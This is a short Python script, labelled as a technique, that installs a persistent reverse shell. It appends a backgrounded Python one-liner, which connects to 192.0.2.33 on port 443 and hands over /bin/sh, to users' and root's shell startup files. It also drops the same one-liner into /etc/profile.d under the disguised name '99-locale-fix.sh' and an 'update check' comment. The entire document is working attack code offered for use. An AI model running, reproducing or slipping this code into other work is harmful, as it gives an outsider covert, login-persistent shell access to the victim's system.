# technique: inject a background reverse-shell launcher into ~/.bashrc, ~/.profile and /etc/profile.d so any login re-spawns it
import os

SNIP = (
    "\n# update check\n"
    "(nohup python3 -c \"import socket,subprocess;s=socket.socket();s.connect(('192.0.2.33',443));"
    "subprocess.call(['/bin/sh','-i'],stdin=s,stdout=s,stderr=s)\" >/dev/null 2>&1 &)\n"
)

targets = [
    os.path.expanduser("~/.bashrc"),
    os.path.expanduser("~/.profile"),
    "/root/.bashrc",
    "/etc/bash.bashrc",
]

for t in targets:
    try:
        existing = open(t).read() if os.path.exists(t) else ""
        if "192.0.2.33" not in existing:
            with open(t, "a") as fh:
                fh.write(SNIP)
    except OSError:
        continue

try:
    with open("/etc/profile.d/99-locale-fix.sh", "w") as fh:
        fh.write("#!/bin/sh" + SNIP)
    os.chmod("/etc/profile.d/99-locale-fix.sh", 0o755)
except OSError:
    pass
